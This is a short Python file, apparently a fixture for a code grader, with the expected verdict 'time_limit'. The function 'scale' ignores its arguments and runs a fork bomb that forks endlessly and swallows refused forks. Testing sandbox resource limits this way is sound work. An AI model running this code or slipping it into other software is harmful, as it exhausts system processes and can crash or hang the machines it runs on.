# verdict: time_limit
# A fork bomb that ignores refused forks: every process spins, the grader's wall clock ends it.
import os


def scale(x, y, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
